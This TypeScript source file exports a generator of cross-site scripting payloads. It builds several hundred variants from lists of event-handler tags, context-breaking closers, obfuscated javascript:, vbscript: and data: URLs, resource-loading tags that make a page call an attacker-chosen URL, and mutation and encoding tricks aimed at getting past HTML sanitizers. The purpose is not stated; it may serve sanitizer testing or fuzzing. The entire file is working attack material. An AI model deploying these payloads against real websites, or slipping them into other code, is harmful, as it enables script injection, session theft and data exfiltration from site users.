/** Markup that runs `script` or asks for `url` where it is taken for markup. Written anew after what is known to work. */
export type Vector = (script: string, url: string) => string;

const attribute = (script: string): string => script.replace(/"/g, '&quot;');

/** Elements that run an event's attribute without the reader's doing. */
const HANDLED = [
  '<img src=x onerror="@">',
  '<IMG SRC=x OnErRoR="@">',
  '<img/src=x/onerror="@">',
  '<img src=x\tonerror\n=\n"@">',
  '<image src=x onerror="@">',
  '<svg onload="@">',
  '<svg/onload="@"//',
  '<svg><animate onbegin="@" attributeName=x dur=1s>',
  '<svg><set onbegin="@" attributeName=x>',
  '<svg><image href=x onerror="@"/></svg>',
  '<body onload="@">',
  '<iframe onload="@"></iframe>',
  '<frameset onload="@">',
  '<style onload="@"></style>',
  '<link rel=stylesheet href=x onerror="@">',
  '<script src=x onerror="@"></script>',
  '<object data=x onerror="@"></object>',
  '<embed src=x onerror="@">',
  '<video src=x onerror="@"></video>',
  '<video><source onerror="@"></video>',
  '<audio src=x onerror="@"></audio>',
  '<input autofocus onfocus="@">',
  '<input type=image src=x onerror="@">',
  '<select autofocus onfocus="@"></select>',
  '<textarea autofocus onfocus="@"></textarea>',
  '<button autofocus onfocus="@">x</button>',
  '<a href=# autofocus onfocus="@">x</a>',
  '<div tabindex=0 autofocus onfocus="@">x</div>',
  '<details open ontoggle="@">x</details>',
  '<dialog open oncancel="@">x</dialog>',
  '<marquee onstart="@">x</marquee>',
  '<meter onmouseover="@">x</meter>',
  '<x onclick="@" contenteditable>x</x>',
  '<p style="animation:x 1s" onanimationstart="@">x</p><style>@keyframes x{}</style>',
  '<p style="transition:1s" ontransitionend="@">x</p>',
  '<math><mi onclick="@">x</mi></math>',
  '<noscript><img src=x onerror="@"></noscript>',
  '<keygen autofocus onfocus="@">',
  '<isindex type=image src=x onerror="@">',
  '<bgsound onpropertychange="@">',
];

/** Text that closes what it stands in. */
const BREAKERS = [
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '"><',
  `'><`,
  '`><',
  '</p></div>',
  '">',
  "'>",
  '\u0000">',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '</math>',
];

/** Addresses that run what they say, each way of hiding the scheme. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' \u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript:/*-/*`/*"/*%0A*/',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'data:image/svg+xml,<svg onload=',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
  'blob:',
  'filesystem:',
  'about:blank#',
  'chrome://settings/#',
  'chrome-extension://invalid/#',
  'moz-extension://invalid/#',
  'file:///etc/passwd#',
  '//',
  '\\\\',
];

/** Where an address is followed or loaded. */
const ADDRESSED = [
  '<a href="@">x</a>',
  '<a href="@" target=_top>x</a>',
  '<area href="@">',
  '<form action="@"><button>x</button></form>',
  '<button formaction="@">x</button>',
  '<iframe src="@"></iframe>',
  '<iframe srcdoc="<a href=&quot;@&quot;>"></iframe>',
  '<object data="@"></object>',
  '<embed src="@">',
  '<base href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<svg><a href="@"><text>x</text></a></svg>',
  '<svg><a xlink:href="@"><text>x</text></a></svg>',
  '<svg><use href="@"/></svg>',
  '<svg><animate attributeName=href values="@"/></svg>',
  '<math href="@">x</math>',
  '<img src="@">',
  '<link rel=import href="@">',
];

/** Elements that ask for an address by being there. */
const LOADING = [
  '<img src="@">',
  '<img srcset="@ 1x">',
  '<picture><source srcset="@"><img></picture>',
  '<video poster="@"></video>',
  '<audio src="@" autoplay></audio>',
  '<video><track default src="@"></video>',
  '<input type=image src="@">',
  '<link rel=stylesheet href="@">',
  '<link rel=preload as=image href="@">',
  '<link rel=prefetch href="@">',
  '<link rel=preconnect href="@">',
  '<link rel=icon href="@">',
  '<link rel=manifest href="@">',
  '<style>@import "@";</style>',
  '<style>*{background:url("@")}</style>',
  '<style>@font-face{font-family:x;src:url("@")}*{font-family:x}</style>',
  '<p style="background:url(@)">x</p>',
  '<p style="list-style:url(@);cursor:url(@),auto">x</p>',
  '<body background="@">',
  '<table background="@"><tr><td>x</td></tr></table>',
  '<svg><image href="@"/></svg>',
  '<svg><style>@import "@";</style></svg>',
  '<svg filter="url(@#x)"></svg>',
  '<script src="@"></script>',
  '<script type=module src="@"></script>',
  '<script type=importmap>{"imports":{"x":"@"}}</script>',
  '<iframe src="@"></iframe>',
  '<object data="@"></object>',
  '<embed src="@">',
  '<frame src="@">',
  '<portal src="@"></portal>',
  '<meta http-equiv=refresh content="0;url=@">',
  '<form id=f action="@"><input></form><script>f.submit()</script>',
  '<template shadowrootmode=open><img src="@"></template>',
  '<a ping="@" href="@">x</a>',
];

/** Markup that is harmless until it is written out and read again. */
const MUTATING = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="@">',
  '<svg></p><style><a id="</style><img src=1 onerror=@>">',
  '<svg><style><img src=x onerror="@"></style></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror="@"></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<textarea><p title="</textarea><img src=x onerror=@>">',
  '<xmp><p title="</xmp><img src=x onerror=@>">',
  '<select><template><img src=x onerror="@"></template></select>',
  '<select><option><style></option></select><img src=x onerror="@"></style>',
  '<!--><img src=x onerror="@">-->',
  '<!--a--!><img src=x onerror="@">',
  '<![CDATA[><img src=x onerror="@">]]>',
  '<svg><![CDATA[</svg><img src=x onerror="@">]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">@</x:script>',
  '<?php <img src=x onerror="@"> ?>',
  '<table><svg><style><img src=x onerror="@">',
  '<p><p><table><p><template><table><img src=x onerror="@">',
  '<b><noembed><img src=x onerror="@"></noembed>',
  '<plaintext><img src=x onerror="@">',
  '<listing>&lt;img src=x onerror="@"&gt;</listing>',
  '&lt;img src=x onerror="@"&gt;',
  '&amp;lt;img src=x onerror="@"&amp;gt;',
  '&#60;img src=x onerror="@"&#62;',
  '%3Cimg src=x onerror="@"%3E',
  '\\u003cimg src=x onerror="@"\\u003e',
  '＜img src=x onerror="@"＞',
  '+ADw-img src=x onerror=+ACI-@+ACI-+AD4-',
  '<img src="x` `<script>@</script>"` `>',
  '<a id=x name=innerHTML>x</a><form id=documentElement><input name=parentNode>@',
];

const fill = (template: string, value: string): string => template.split('@').join(value);
const KEYFRAMES = /@(?=keyframes|import|font-face)/g;
const at = (template: string, value: string): string =>
  fill(template.replace(KEYFRAMES, '\u0011'), value).replaceAll('\u0011', '@');

/** All ways, as functions of what to run and where to ask. */
export const VECTORS: readonly Vector[] = [
  script => `<script>${script}</script>`,
  script => `<ScRiPt >${script}</ScRiPt>`,
  script => `<scr\u0000ipt>${script}</scr\u0000ipt>`,
  script => `<scr<script>ipt>${script}</scr</script>ipt>`,
  script => `<script\u2028>${script}</script\u2029>`,
  script => `<svg><script>${script}</script></svg>`,
  ...HANDLED.map(
    (template): Vector =>
      script =>
        at(template, attribute(script)),
  ),
  ...BREAKERS.map(
    (breaker): Vector =>
      script =>
        `${breaker}<img src=x onerror="${attribute(script)}">`,
  ),
  ...SCHEMES.map(
    (scheme): Vector =>
      script =>
        `<a href="${scheme}${attribute(script)}">x</a>`,
  ),
  ...SCHEMES.map(
    (scheme): Vector =>
      script =>
        `${scheme}${script}`,
  ),
  ...ADDRESSED.map(
    (template): Vector =>
      script =>
        at(template, `javascript:${attribute(script)}`),
  ),
  ...ADDRESSED.map(
    (template): Vector =>
      script =>
        at(template, `data:text/html,&lt;script&gt;${attribute(script)}&lt;/script&gt;`),
  ),
  ...LOADING.map(
    (template): Vector =>
      (_, url) =>
        at(template, url),
  ),
  ...BREAKERS.map(
    (breaker): Vector =>
      (_, url) =>
        `${breaker}<img src="${url}">`,
  ),
  ...MUTATING.map(
    (template): Vector =>
      script =>
        at(template, attribute(script)),
  ),
];
